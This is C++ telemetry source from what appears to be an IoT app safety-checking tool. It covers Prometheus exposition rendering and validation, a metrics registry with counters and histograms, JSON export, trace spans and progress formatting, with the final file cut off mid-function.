namespace {

void AppendU64(std::string& out, std::uint64_t value) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%" PRIu64, value);
  out += buf;
}

bool IsValidMetricName(std::string_view name) {
  if (name.empty()) return false;
  if (!(std::isalpha(static_cast<unsigned char>(name[0])) || name[0] == '_' ||
        name[0] == ':')) {
    return false;
  }
  for (char c : name) {
    if (!(std::isalnum(static_cast<unsigned char>(c)) || c == '_' ||
          c == ':')) {
      return false;
    }
  }
  return true;
}

bool ParseValue(std::string_view text, double* out) {
  if (text == "+Inf") {
    *out = 1e308 * 10;  // overflow to +inf without <limits>
    return true;
  }
  std::string copy(text);
  char* end = nullptr;
  const double v = std::strtod(copy.c_str(), &end);
  if (end == copy.c_str() || *end != '\0') return false;
  *out = v;
  return true;
}

struct HistogramFamilyState {
  bool saw_inf = false;
  bool saw_sum = false;
  bool saw_count = false;
  double last_bucket = -1;  // cumulative count of the previous bucket
  double last_le = -1;      // upper bound of the previous finite bucket
  double inf_value = 0;
  double count_value = 0;
};

}  // namespace

std::string PrometheusName(const std::string& dotted) {
  std::string out = "iotsan_";
  for (char c : dotted) {
    out += (c == '.' || c == '/' || c == '-') ? '_' : c;
  }
  return out;
}

std::string RenderPrometheus(const Registry& registry) {
  std::string out;
  out.reserve(8192);

  for (const Sample& sample : registry.Snapshot()) {
    const std::string name = PrometheusName(sample.name);
    out += "# TYPE ";
    out += name;
    out += sample.kind == SampleKind::kGauge ? " gauge\n" : " counter\n";
    out += name;
    out += ' ';
    AppendU64(out, sample.value);
    out += '\n';
  }

  for (const HistogramSample& hist : registry.SnapshotHistograms()) {
    const std::string name = PrometheusName(hist.name);
    out += "# TYPE ";
    out += name;
    out += " histogram\n";
    std::uint64_t cumulative = 0;
    for (const HistogramSnapshot::Bucket& bucket : hist.snapshot.buckets) {
      cumulative += bucket.count;
      out += name;
      out += "_bucket{le=\"";
      AppendU64(out, bucket.le);
      out += "\"} ";
      AppendU64(out, cumulative);
      out += '\n';
    }
    out += name;
    out += "_bucket{le=\"+Inf\"} ";
    AppendU64(out, hist.snapshot.count);
    out += '\n';
    out += name;
    out += "_sum ";
    AppendU64(out, hist.snapshot.sum);
    out += '\n';
    out += name;
    out += "_count ";
    AppendU64(out, hist.snapshot.count);
    out += '\n';
  }
  return out;
}

std::vector<std::string> ValidateExposition(const std::string& text) {
  std::vector<std::string> errors;
  auto fail = [&errors](int line_no, const std::string& message) {
    errors.push_back("line " + std::to_string(line_no) + ": " + message);
  };

  // Family name -> declared type ("counter" / "gauge" / "histogram").
  std::map<std::string, std::string> families;
  std::map<std::string, HistogramFamilyState> histograms;

  std::istringstream in(text);
  std::string line;
  int line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (line.empty()) continue;  // tolerate blank separators

    if (line[0] == '#') {
      // Only "# TYPE <name> <type>" and "# HELP <name> <text>" comments.
      std::istringstream comment(line);
      std::string hash, keyword, name, type;
      comment >> hash >> keyword;
      if (keyword == "HELP") continue;
      if (keyword != "TYPE") {
        fail(line_no, "unknown comment keyword '" + keyword + "'");
        continue;
      }
      comment >> name >> type;
      if (!IsValidMetricName(name)) {
        fail(line_no, "invalid metric name in TYPE line");
        continue;
      }
      if (type != "counter" && type != "gauge" && type != "histogram" &&
          type != "summary" && type != "untyped") {
        fail(line_no, "invalid metric type '" + type + "'");
        continue;
      }
      if (!families.emplace(name, type).second) {
        fail(line_no, "duplicate TYPE declaration for '" + name + "'");
      }
      continue;
    }

    // Sample line: name[{label="value",...}] value
    std::string_view rest(line);
    std::size_t name_end = 0;
    while (name_end < rest.size() && rest[name_end] != '{' &&
           rest[name_end] != ' ') {
      ++name_end;
    }
    const std::string name(rest.substr(0, name_end));
    if (!IsValidMetricName(name)) {
      fail(line_no, "invalid metric name");
      continue;
    }
    rest.remove_prefix(name_end);

    // Labels (we only ever emit `le`, but parse any well-formed set).
    std::string le_label;
    bool has_le = false;
    if (!rest.empty() && rest[0] == '{') {
      const std::size_t close = rest.find('}');
      if (close == std::string_view::npos) {
        fail(line_no, "unterminated label set");
        continue;
      }
      std::string_view labels = rest.substr(1, close - 1);
      bool labels_ok = true;
      while (!labels.empty()) {
        const std::size_t eq = labels.find('=');
        if (eq == std::string_view::npos || eq + 1 >= labels.size() ||
            labels[eq + 1] != '"') {
          labels_ok = false;
          break;
        }
        const std::string_view key = labels.substr(0, eq);
        const std::size_t quote_end = labels.find('"', eq + 2);
        if (quote_end == std::string_view::npos ||
            !IsValidMetricName(key)) {
          labels_ok = false;
          break;
        }
        if (key == "le") {
          le_label = std::string(labels.substr(eq + 2, quote_end - eq - 2));
          has_le = true;
        }
        labels.remove_prefix(quote_end + 1);
        if (!labels.empty()) {
          if (labels[0] != ',') {
            labels_ok = false;
            break;
          }
          labels.remove_prefix(1);
        }
      }
      if (!labels_ok) {
        fail(line_no, "malformed label set");
        continue;
      }
      rest.remove_prefix(close + 1);
    }

    if (rest.empty() || rest[0] != ' ') {
      fail(line_no, "missing value");
      continue;
    }
    rest.remove_prefix(1);
    double value = 0;
    if (!ParseValue(rest, &value)) {
      fail(line_no, "unparseable sample value '" + std::string(rest) + "'");
      continue;
    }

    // Resolve the owning family: exact match for counters/gauges, a
    // _bucket/_sum/_count suffix of a declared histogram otherwise.
    std::string family = name;
    std::string suffix;
    if (families.count(name) == 0) {
      for (const char* s : {"_bucket", "_sum", "_count"}) {
        const std::string_view sv(s);
        if (name.size() > sv.size() &&
            std::string_view(name).substr(name.size() - sv.size()) == sv) {
          const std::string base = name.substr(0, name.size() - sv.size());
          auto it = families.find(base);
          if (it != families.end() && it->second == "histogram") {
            family = base;
            suffix = s;
            break;
          }
        }
      }
    }
    auto family_it = families.find(family);
    if (family_it == families.end()) {
      fail(line_no, "sample '" + name + "' has no TYPE declaration");
      continue;
    }

    if (family_it->second != "histogram") {
      if (has_le) fail(line_no, "unexpected le label on non-histogram");
      continue;
    }

    HistogramFamilyState& state = histograms[family];
    if (suffix == "_bucket") {
      if (!has_le) {
        fail(line_no, "histogram bucket without le label");
        continue;
      }
      if (state.saw_inf) {
        fail(line_no, "bucket after le=\"+Inf\" in '" + family + "'");
        continue;
      }
      if (value < state.last_bucket) {
        fail(line_no,
             "non-monotone cumulative bucket counts in '" + family + "'");
      }
      state.last_bucket = value;
      if (le_label == "+Inf") {
        state.saw_inf = true;
        state.inf_value = value;
      } else {
        double le = 0;
        if (!ParseValue(le_label, &le)) {
          fail(line_no, "unparseable le bound '" + le_label + "'");
          continue;
        }
        if (le <= state.last_le) {
          fail(line_no, "le bounds not increasing in '" + family + "'");
        }
        state.last_le = le;
      }
    } else if (suffix == "_sum") {
      state.saw_sum = true;
    } else if (suffix == "_count") {
      state.saw_count = true;
      state.count_value = value;
    } else {
      fail(line_no, "bare sample for histogram family '" + family + "'");
    }
  }

  for (const auto& [family, type] : families) {
    if (type != "histogram") continue;
    auto it = histograms.find(family);
    if (it == histograms.end()) {
      errors.push_back("histogram '" + family + "' has no samples");
      continue;
    }
    const HistogramFamilyState& state = it->second;
    if (!state.saw_inf) {
      errors.push_back("histogram '" + family + "' missing le=\"+Inf\"");
    }
    if (!state.saw_sum) {
      errors.push_back("histogram '" + family + "' missing _sum");
    }
    if (!state.saw_count) {
      errors.push_back("histogram '" + family + "' missing _count");
    } else if (state.saw_inf && state.inf_value != state.count_value) {
      errors.push_back("histogram '" + family +
                       "': le=\"+Inf\" bucket != _count");
    }
  }
  return errors;
}

}  // namespace iotsan::telemetry
