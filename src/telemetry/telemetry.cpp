#include "telemetry/telemetry.hpp"

#include <cinttypes>
#include <cstdio>

#include "util/error.hpp"

namespace iotsan::telemetry {

namespace {

Registry* g_registry = nullptr;
TraceSink* g_trace = nullptr;

}  // namespace

// ---- Registry ----------------------------------------------------------------

Registry* Active() { return g_registry; }
void SetActive(Registry* registry) { g_registry = registry; }

std::vector<Sample> Registry::Snapshot() const {
  std::vector<Sample> out;
  auto add = [&out](const char* name, std::uint64_t value) {
    out.push_back({name, value});
  };
  add("search.states_explored", search.states_explored);
  add("search.states_matched", search.states_matched);
  add("search.transitions", search.transitions);
  add("search.cascade_drains", search.cascade_drains);
  add("search.events_injected", search.events_injected);
  add("search.handler_dispatches", search.handler_dispatches);
  add("search.invariant_evals", search.invariant_evals);
  add("search.violations_recorded", search.violations_recorded);
  add("search.budget_stops", search.budget_stops);
  add("search.progress_reports", search.progress_reports);
  add("search.replays_run", search.replays_run);
  add("search.replays_reproduced", search.replays_reproduced);
  add("search.replays_refuted", search.replays_refuted);
  add("pipeline.apps_parsed", pipeline.apps_parsed);
  add("pipeline.parse_failures", pipeline.parse_failures);
  add("pipeline.type_problems", pipeline.type_problems);
  add("pipeline.dependency_edges", pipeline.dependency_edges);
  add("pipeline.related_sets", pipeline.related_sets);
  add("pipeline.models_built", pipeline.models_built);
  add("pipeline.checks_run", pipeline.checks_run);
  add("pipeline.configs_enumerated", pipeline.configs_enumerated);
  add("pipeline.attributions", pipeline.attributions);
  add("store.entries", store.entries);
  add("store.memory_bytes", store.memory_bytes);
  add("store.fill_permille", store.fill_permille);
  add("store.omission_ppm", store.omission_ppm);
  add("store.saturation_warnings", store.saturation_warnings);
  add("parallel.pools_created", parallel.pools_created);
  add("parallel.workers_spawned", parallel.workers_spawned);
  add("parallel.tasks_run", parallel.tasks_run);
  add("parallel.tasks_stolen", parallel.tasks_stolen);
  add("parallel.branch_tasks", parallel.branch_tasks);
  add("parallel.group_tasks", parallel.group_tasks);
  add("parallel.config_tasks", parallel.config_tasks);
  add("cache.lookups", cache.lookups);
  add("cache.hits", cache.hits);
  add("cache.hits_memory", cache.hits_memory);
  add("cache.hits_disk", cache.hits_disk);
  add("cache.misses", cache.misses);
  add("cache.stores", cache.stores);
  add("cache.store_skips", cache.store_skips);
  add("cache.evictions", cache.evictions);
  add("cache.corrupt_entries", cache.corrupt_entries);
  add("cache.bytes_read", cache.bytes_read);
  add("cache.bytes_written", cache.bytes_written);
  add("cache.singleflight_waits", cache.singleflight_waits);
  add("server.connections_accepted", server.connections_accepted);
  add("server.requests", server.requests);
  add("server.responses_ok", server.responses_ok);
  add("server.responses_client_error", server.responses_client_error);
  add("server.responses_server_error", server.responses_server_error);
  add("server.checks", server.checks);
  add("server.attributions", server.attributions);
  add("server.bad_requests", server.bad_requests);
  add("server.shed_queue_full", server.shed_queue_full);
  add("server.shed_oversized", server.shed_oversized);
  add("server.deadline_hits", server.deadline_hits);
  add("server.active_connections", server.active_connections);
  add("server.queue_depth", server.queue_depth);
  return out;
}

void Registry::Reset() {
  // Atomic members make the structs non-assignable, so zero each counter
  // explicitly (keep in sync with Snapshot()).
  for (Counter* c : {
           &search.states_explored, &search.states_matched,
           &search.transitions, &search.cascade_drains,
           &search.events_injected, &search.handler_dispatches,
           &search.invariant_evals, &search.violations_recorded,
           &search.budget_stops, &search.progress_reports,
           &search.replays_run, &search.replays_reproduced,
           &search.replays_refuted, &pipeline.apps_parsed,
           &pipeline.parse_failures, &pipeline.type_problems,
           &pipeline.dependency_edges, &pipeline.related_sets,
           &pipeline.models_built, &pipeline.checks_run,
           &pipeline.configs_enumerated, &pipeline.attributions,
           &store.entries, &store.memory_bytes, &store.fill_permille,
           &store.omission_ppm, &store.saturation_warnings,
           &parallel.pools_created, &parallel.workers_spawned,
           &parallel.tasks_run, &parallel.tasks_stolen,
           &parallel.branch_tasks, &parallel.group_tasks,
           &parallel.config_tasks, &cache.lookups, &cache.hits,
           &cache.hits_memory, &cache.hits_disk, &cache.misses,
           &cache.stores, &cache.store_skips, &cache.evictions,
           &cache.corrupt_entries, &cache.bytes_read, &cache.bytes_written,
           &cache.singleflight_waits, &server.connections_accepted,
           &server.requests, &server.responses_ok,
           &server.responses_client_error, &server.responses_server_error,
           &server.checks, &server.attributions, &server.bad_requests,
           &server.shed_queue_full, &server.shed_oversized,
           &server.deadline_hits, &server.active_connections,
           &server.queue_depth,
       }) {
    c->store(0);
  }
}

json::Value Registry::ToJson() const {
  json::Object search_obj;
  json::Object pipeline_obj;
  json::Object store_obj;
  json::Object parallel_obj;
  json::Object cache_obj;
  json::Object server_obj;
  for (const Sample& sample : Snapshot()) {
    const auto dot = sample.name.find('.');
    const std::string group = sample.name.substr(0, dot);
    const std::string key = sample.name.substr(dot + 1);
    const json::Value value(static_cast<std::int64_t>(sample.value));
    if (group == "search") {
      search_obj[key] = value;
    } else if (group == "pipeline") {
      pipeline_obj[key] = value;
    } else if (group == "parallel") {
      parallel_obj[key] = value;
    } else if (group == "cache") {
      cache_obj[key] = value;
    } else if (group == "server") {
      server_obj[key] = value;
    } else {
      store_obj[key] = value;
    }
  }
  json::Object doc;
  doc["search"] = json::Value(std::move(search_obj));
  doc["pipeline"] = json::Value(std::move(pipeline_obj));
  doc["store"] = json::Value(std::move(store_obj));
  doc["parallel"] = json::Value(std::move(parallel_obj));
  doc["cache"] = json::Value(std::move(cache_obj));
  doc["server"] = json::Value(std::move(server_obj));
  return json::Value(std::move(doc));
}

// ---- TraceSink ---------------------------------------------------------------

TraceSink* ActiveTrace() { return g_trace; }
void SetActiveTrace(TraceSink* sink) { g_trace = sink; }

TraceSink::TraceSink() : epoch_(std::chrono::steady_clock::now()) {}

TraceSink::TraceSink(const std::string& path)
    : epoch_(std::chrono::steady_clock::now()),
      out_(path, std::ios::trunc),
      to_file_(true) {
  if (!out_) throw Error("cannot open trace file: " + path);
}

TraceSink::~TraceSink() {
  if (to_file_) out_.flush();
}

std::uint64_t TraceSink::NowUs() const {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(
          std::chrono::steady_clock::now() - epoch_)
          .count());
}

void TraceSink::Flush() {
  std::lock_guard<std::mutex> lock(mutex_);
  if (to_file_) out_.flush();
}

void TraceSink::EndSpan(const std::string& name, std::uint64_t start_us,
                        std::uint64_t dur_us, int depth,
                        const json::Object* attrs) {
  std::lock_guard<std::mutex> lock(mutex_);
  Total& total = totals_[name];
  ++total.count;
  total.total_us += dur_us;
  if (!to_file_) return;
  // One JSON object per line; spans appear in completion order
  // (children before their parent), which keeps emission O(1) and the
  // stream well-formed even if the process dies mid-run.
  json::Object line;
  line["name"] = json::Value(name);
  line["start_us"] = json::Value(static_cast<std::int64_t>(start_us));
  line["dur_us"] = json::Value(static_cast<std::int64_t>(dur_us));
  line["depth"] = json::Value(depth);
  if (attrs != nullptr && !attrs->empty()) {
    line["attrs"] = json::Value(*attrs);
  }
  out_ << json::Value(std::move(line)).Dump() << '\n';
}

// ---- ScopedSpan --------------------------------------------------------------

ScopedSpan::ScopedSpan(TraceSink* sink, std::string_view name) : sink_(sink) {
  if (sink_ == nullptr) return;
  name_ = name;
  start_us_ = sink_->NowUs();
  depth_ = sink_->open_spans_++;
}

ScopedSpan::~ScopedSpan() {
  if (sink_ == nullptr) return;
  --sink_->open_spans_;
  sink_->EndSpan(name_, start_us_, sink_->NowUs() - start_us_, depth_,
                 attrs_.get());
}

json::Object& ScopedSpan::MutableAttrs() {
  if (!attrs_) attrs_ = std::make_unique<json::Object>();
  return *attrs_;
}

void ScopedSpan::Attr(std::string_view key, std::string_view value) {
  if (sink_ == nullptr) return;
  MutableAttrs()[std::string(key)] = json::Value(std::string(value));
}

void ScopedSpan::Attr(std::string_view key, std::int64_t value) {
  if (sink_ == nullptr) return;
  MutableAttrs()[std::string(key)] = json::Value(value);
}

void ScopedSpan::Attr(std::string_view key, std::uint64_t value) {
  Attr(key, static_cast<std::int64_t>(value));
}

void ScopedSpan::Attr(std::string_view key, double value) {
  if (sink_ == nullptr) return;
  MutableAttrs()[std::string(key)] = json::Value(value);
}

// ---- Progress ----------------------------------------------------------------

std::string FormatProgress(const ProgressSnapshot& snapshot) {
  char head[256];
  std::snprintf(head, sizeof(head),
                "progress: %" PRIu64 " states (%.0f/s), %" PRIu64
                " matched (%.1f%% pruned), %" PRIu64 " transitions, %" PRIu64
                " drains",
                snapshot.states_explored, snapshot.states_per_second,
                snapshot.states_matched, snapshot.pruning_ratio * 100.0,
                snapshot.transitions, snapshot.cascade_drains);
  std::string out = head;
  if (!snapshot.depth_histogram.empty()) {
    out += ", depth ";
    for (std::size_t i = 0; i < snapshot.depth_histogram.size(); ++i) {
      if (i > 0) out += '|';
      out += std::to_string(snapshot.depth_histogram[i]);
    }
  }
  if (snapshot.store_fill_ratio > 0) {
    char fill[48];
    std::snprintf(fill, sizeof(fill), ", store fill %.2f%%",
                  snapshot.store_fill_ratio * 100.0);
    out += fill;
  }
  if (snapshot.jobs > 1) {
    char par[96];
    std::snprintf(par, sizeof(par),
                  ", jobs %d, branches %" PRIu64 "/%" PRIu64, snapshot.jobs,
                  snapshot.branches_done, snapshot.branches_total);
    out += par;
  }
  if (snapshot.cache_hits + snapshot.cache_misses > 0) {
    char cache[64];
    std::snprintf(cache, sizeof(cache),
                  ", cache %" PRIu64 " hit/%" PRIu64 " miss",
                  snapshot.cache_hits, snapshot.cache_misses);
    out += cache;
  }
  return out;
}

}  // namespace iotsan::telemetry
