#include "telemetry/telemetry.hpp"

#include <sys/resource.h>

#include <algorithm>
#include <bit>
#include <cinttypes>
#include <cmath>
#include <cstdio>

#include "util/error.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::telemetry {

namespace {

Registry* g_registry = nullptr;
TraceSink* g_trace = nullptr;

// Pool timing hooks: the thread pool sits below telemetry, so it calls
// back through util::SetPoolTimingHooks instead of including this
// header.  The hooks re-check Active() per record, so a pool outliving
// one registry simply stops recording.
void RecordPoolTaskRun(std::uint64_t us) {
  if (auto* t = Active()) t->parallel_hist.task_run_duration_us.Record(us);
}

void RecordPoolStealWait(std::uint64_t us) {
  if (auto* t = Active()) t->parallel_hist.steal_wait_duration_us.Record(us);
}

}  // namespace

// ---- Registry ----------------------------------------------------------------

Registry* Active() { return g_registry; }

void SetActive(Registry* registry) {
  g_registry = registry;
  if (registry != nullptr) {
    util::SetPoolTimingHooks(&RecordPoolTaskRun, &RecordPoolStealWait);
  } else {
    util::SetPoolTimingHooks(nullptr, nullptr);
  }
}

std::vector<Sample> Registry::Snapshot() const {
  std::vector<Sample> out;
  auto add = [&out](const char* name, std::uint64_t value,
                    SampleKind kind = SampleKind::kCounter) {
    out.push_back({name, value, kind});
  };
  add("search.states_explored", search.states_explored);
  add("search.states_matched", search.states_matched);
  add("search.transitions", search.transitions);
  add("search.cascade_drains", search.cascade_drains);
  add("search.events_injected", search.events_injected);
  add("search.handler_dispatches", search.handler_dispatches);
  add("search.invariant_evals", search.invariant_evals);
  add("search.violations_recorded", search.violations_recorded);
  add("search.budget_stops", search.budget_stops);
  add("search.progress_reports", search.progress_reports);
  add("search.replays_run", search.replays_run);
  add("search.replays_reproduced", search.replays_reproduced);
  add("search.replays_refuted", search.replays_refuted);
  add("pipeline.apps_parsed", pipeline.apps_parsed);
  add("pipeline.parse_failures", pipeline.parse_failures);
  add("pipeline.type_problems", pipeline.type_problems);
  add("pipeline.dependency_edges", pipeline.dependency_edges);
  add("pipeline.related_sets", pipeline.related_sets);
  add("pipeline.models_built", pipeline.models_built);
  add("pipeline.checks_run", pipeline.checks_run);
  add("pipeline.configs_enumerated", pipeline.configs_enumerated);
  add("pipeline.attributions", pipeline.attributions);
  add("store.entries", store.entries, SampleKind::kGauge);
  add("store.memory_bytes", store.memory_bytes, SampleKind::kGauge);
  add("store.fill_permille", store.fill_permille, SampleKind::kGauge);
  add("store.omission_ppm", store.omission_ppm, SampleKind::kGauge);
  add("store.bytes_per_state", store.bytes_per_state, SampleKind::kGauge);
  add("store.saturation_warnings", store.saturation_warnings);
  add("por.ample_singletons", por.ample_singletons);
  add("por.full_expansions", por.full_expansions);
  add("por.interleavings_pruned", por.interleavings_pruned);
  add("por.fallback_unknown", por.fallback_unknown);
  add("por.fallback_visible", por.fallback_visible);
  add("por.fallback_conflict", por.fallback_conflict);
  add("por.fallback_depth", por.fallback_depth);
  add("compress.states_encoded", compress.states_encoded);
  add("compress.intern_lookups", compress.intern_lookups);
  add("compress.intern_hits", compress.intern_hits);
  add("compress.pool_entries", compress.pool_entries, SampleKind::kGauge);
  add("compress.pool_bytes", compress.pool_bytes, SampleKind::kGauge);
  add("parallel.pools_created", parallel.pools_created);
  add("parallel.workers_spawned", parallel.workers_spawned);
  add("parallel.tasks_run", parallel.tasks_run);
  add("parallel.tasks_stolen", parallel.tasks_stolen);
  add("parallel.branch_tasks", parallel.branch_tasks);
  add("parallel.group_tasks", parallel.group_tasks);
  add("parallel.config_tasks", parallel.config_tasks);
  add("cache.lookups", cache.lookups);
  add("cache.hits", cache.hits);
  add("cache.hits_memory", cache.hits_memory);
  add("cache.hits_disk", cache.hits_disk);
  add("cache.misses", cache.misses);
  add("cache.stores", cache.stores);
  add("cache.store_skips", cache.store_skips);
  add("cache.evictions", cache.evictions);
  add("cache.corrupt_entries", cache.corrupt_entries);
  add("cache.bytes_read", cache.bytes_read);
  add("cache.bytes_written", cache.bytes_written);
  add("cache.singleflight_waits", cache.singleflight_waits);
  add("server.connections_accepted", server.connections_accepted);
  add("server.requests", server.requests);
  add("server.responses_ok", server.responses_ok);
  add("server.responses_client_error", server.responses_client_error);
  add("server.responses_server_error", server.responses_server_error);
  add("server.checks", server.checks);
  add("server.attributions", server.attributions);
  add("server.bad_requests", server.bad_requests);
  add("server.shed_queue_full", server.shed_queue_full);
  add("server.shed_oversized", server.shed_oversized);
  add("server.deadline_hits", server.deadline_hits);
  add("server.active_connections", server.active_connections,
      SampleKind::kGauge);
  add("server.queue_depth", server.queue_depth, SampleKind::kGauge);
  add("registry.deployments_put", registry.deployments_put);
  add("registry.deployments_deleted", registry.deployments_deleted);
  add("registry.checks_full", registry.checks_full);
  add("registry.checks_delta", registry.checks_delta);
  add("registry.groups_total", registry.groups_total);
  add("registry.groups_reused", registry.groups_reused);
  add("registry.groups_recomputed", registry.groups_recomputed);
  add("registry.revision_conflicts", registry.revision_conflicts);
  add("registry.corrupt_entries", registry.corrupt_entries);
  add("registry.evictions", registry.evictions);
  add("cluster.checks", cluster.checks);
  add("cluster.units_planned", cluster.units_planned);
  add("cluster.units_dispatched", cluster.units_dispatched);
  add("cluster.units_completed", cluster.units_completed);
  add("cluster.units_redispatched", cluster.units_redispatched);
  add("cluster.units_local", cluster.units_local);
  add("cluster.local_fallback_checks", cluster.local_fallback_checks);
  add("cluster.retries", cluster.retries);
  add("cluster.worker_failures", cluster.worker_failures);
  add("cluster.health_probes", cluster.health_probes);
  add("cluster.workers_healthy", cluster.workers_healthy,
      SampleKind::kGauge);
  add("memory.store_exhaustive_bytes", memory.store_exhaustive_bytes,
      SampleKind::kGauge);
  add("memory.store_bitstate_bytes", memory.store_bitstate_bytes,
      SampleKind::kGauge);
  add("memory.trace_buffer_bytes", memory.trace_buffer_bytes);
  add("memory.cache_resident_bytes", memory.cache_resident_bytes,
      SampleKind::kGauge);
  add("memory.peak_rss_bytes", memory.peak_rss_bytes, SampleKind::kGauge);
  return out;
}

std::vector<HistogramSample> Registry::SnapshotHistograms() const {
  std::vector<HistogramSample> out;
  auto add = [&out](const char* name, const Histogram& histogram) {
    out.push_back({name, histogram.TakeSnapshot()});
  };
  add("search.group_check_duration_us",
      search_hist.group_check_duration_us);
  add("search.group_states_per_second",
      search_hist.group_states_per_second);
  add("cache.lookup_hit_duration_us", cache_hist.lookup_hit_duration_us);
  add("cache.lookup_miss_duration_us", cache_hist.lookup_miss_duration_us);
  add("parallel.task_run_duration_us", parallel_hist.task_run_duration_us);
  add("parallel.steal_wait_duration_us",
      parallel_hist.steal_wait_duration_us);
  add("server.request_duration_us", server_hist.request_duration_us);
  add("server.queue_wait_us", server_hist.queue_wait_us);
  add("server.request_body_bytes", server_hist.request_body_bytes);
  add("registry.full_check_duration_us",
      registry_hist.full_check_duration_us);
  add("registry.delta_check_duration_us",
      registry_hist.delta_check_duration_us);
  add("cluster.dispatch_latency_us", cluster_hist.dispatch_latency_us);
  return out;
}

void Registry::Reset() {
  // Atomic members make the structs non-assignable, so zero each counter
  // explicitly (keep in sync with Snapshot()).
  for (Counter* c : {
           &search.states_explored, &search.states_matched,
           &search.transitions, &search.cascade_drains,
           &search.events_injected, &search.handler_dispatches,
           &search.invariant_evals, &search.violations_recorded,
           &search.budget_stops, &search.progress_reports,
           &search.replays_run, &search.replays_reproduced,
           &search.replays_refuted, &pipeline.apps_parsed,
           &pipeline.parse_failures, &pipeline.type_problems,
           &pipeline.dependency_edges, &pipeline.related_sets,
           &pipeline.models_built, &pipeline.checks_run,
           &pipeline.configs_enumerated, &pipeline.attributions,
           &store.entries, &store.memory_bytes, &store.fill_permille,
           &store.omission_ppm, &store.bytes_per_state,
           &store.saturation_warnings, &por.ample_singletons,
           &por.full_expansions, &por.interleavings_pruned,
           &por.fallback_unknown, &por.fallback_visible,
           &por.fallback_conflict, &por.fallback_depth,
           &compress.states_encoded, &compress.intern_lookups,
           &compress.intern_hits, &compress.pool_entries,
           &compress.pool_bytes,
           &parallel.pools_created, &parallel.workers_spawned,
           &parallel.tasks_run, &parallel.tasks_stolen,
           &parallel.branch_tasks, &parallel.group_tasks,
           &parallel.config_tasks, &cache.lookups, &cache.hits,
           &cache.hits_memory, &cache.hits_disk, &cache.misses,
           &cache.stores, &cache.store_skips, &cache.evictions,
           &cache.corrupt_entries, &cache.bytes_read, &cache.bytes_written,
           &cache.singleflight_waits, &server.connections_accepted,
           &server.requests, &server.responses_ok,
           &server.responses_client_error, &server.responses_server_error,
           &server.checks, &server.attributions, &server.bad_requests,
           &server.shed_queue_full, &server.shed_oversized,
           &server.deadline_hits, &server.active_connections,
           &server.queue_depth, &registry.deployments_put,
           &registry.deployments_deleted, &registry.checks_full,
           &registry.checks_delta, &registry.groups_total,
           &registry.groups_reused, &registry.groups_recomputed,
           &registry.revision_conflicts, &registry.corrupt_entries,
           &registry.evictions, &cluster.checks, &cluster.units_planned,
           &cluster.units_dispatched, &cluster.units_completed,
           &cluster.units_redispatched, &cluster.units_local,
           &cluster.local_fallback_checks, &cluster.retries,
           &cluster.worker_failures, &cluster.health_probes,
           &cluster.workers_healthy, &memory.store_exhaustive_bytes,
           &memory.store_bitstate_bytes, &memory.trace_buffer_bytes,
           &memory.cache_resident_bytes, &memory.peak_rss_bytes,
       }) {
    c->store(0);
  }
  for (Histogram* h : {
           &search_hist.group_check_duration_us,
           &search_hist.group_states_per_second,
           &cache_hist.lookup_hit_duration_us,
           &cache_hist.lookup_miss_duration_us,
           &parallel_hist.task_run_duration_us,
           &parallel_hist.steal_wait_duration_us,
           &server_hist.request_duration_us,
           &server_hist.queue_wait_us,
           &server_hist.request_body_bytes,
           &registry_hist.full_check_duration_us,
           &registry_hist.delta_check_duration_us,
           &cluster_hist.dispatch_latency_us,
       }) {
    h->Reset();
  }
}

json::Value Registry::ToJson() const {
  json::Object search_obj;
  json::Object pipeline_obj;
  json::Object store_obj;
  json::Object por_obj;
  json::Object compress_obj;
  json::Object parallel_obj;
  json::Object cache_obj;
  json::Object server_obj;
  json::Object registry_obj;
  json::Object cluster_obj;
  json::Object memory_obj;
  for (const Sample& sample : Snapshot()) {
    const auto dot = sample.name.find('.');
    const std::string group = sample.name.substr(0, dot);
    const std::string key = sample.name.substr(dot + 1);
    const json::Value value(static_cast<std::int64_t>(sample.value));
    if (group == "search") {
      search_obj[key] = value;
    } else if (group == "pipeline") {
      pipeline_obj[key] = value;
    } else if (group == "por") {
      por_obj[key] = value;
    } else if (group == "compress") {
      compress_obj[key] = value;
    } else if (group == "parallel") {
      parallel_obj[key] = value;
    } else if (group == "cache") {
      cache_obj[key] = value;
    } else if (group == "server") {
      server_obj[key] = value;
    } else if (group == "registry") {
      registry_obj[key] = value;
    } else if (group == "cluster") {
      cluster_obj[key] = value;
    } else if (group == "memory") {
      memory_obj[key] = value;
    } else {
      store_obj[key] = value;
    }
  }
  json::Object doc;
  doc["search"] = json::Value(std::move(search_obj));
  doc["pipeline"] = json::Value(std::move(pipeline_obj));
  doc["store"] = json::Value(std::move(store_obj));
  doc["por"] = json::Value(std::move(por_obj));
  doc["compress"] = json::Value(std::move(compress_obj));
  doc["parallel"] = json::Value(std::move(parallel_obj));
  doc["cache"] = json::Value(std::move(cache_obj));
  doc["server"] = json::Value(std::move(server_obj));
  doc["registry"] = json::Value(std::move(registry_obj));
  doc["cluster"] = json::Value(std::move(cluster_obj));
  doc["memory"] = json::Value(std::move(memory_obj));
  return json::Value(std::move(doc));
}

std::uint64_t ReadPeakRssBytes() {
  struct rusage usage = {};
  if (getrusage(RUSAGE_SELF, &usage) != 0) return 0;
  // Linux reports ru_maxrss in kilobytes (BSD reports bytes; this repo
  // targets POSIX/Linux — see the server's socket layer).
  return static_cast<std::uint64_t>(usage.ru_maxrss) * 1024;
}

std::uint64_t SamplePeakRss(Registry& registry) {
  const std::uint64_t rss = ReadPeakRssBytes();
  // Monotonic even if the platform lies: never write a smaller value.
  std::uint64_t seen = registry.memory.peak_rss_bytes.load(
      std::memory_order_relaxed);
  while (rss > seen && !registry.memory.peak_rss_bytes.compare_exchange_weak(
                           seen, rss, std::memory_order_relaxed)) {
  }
  return std::max(rss, seen);
}

// ---- Histogram ---------------------------------------------------------------

std::size_t Histogram::BucketIndex(std::uint64_t value) {
  if (value < kSubBuckets) return static_cast<std::size_t>(value);
  // Position of the most significant bit (>= kSubBucketBits here); the
  // kSubBucketBits bits right below it pick the linear sub-bucket.
  const unsigned msb = 63u - static_cast<unsigned>(std::countl_zero(value));
  const unsigned group = msb - kSubBucketBits + 1;
  const std::uint64_t sub =
      (value >> (msb - kSubBucketBits)) & (kSubBuckets - 1);
  const std::size_t index =
      static_cast<std::size_t>(group) * kSubBuckets +
      static_cast<std::size_t>(sub);
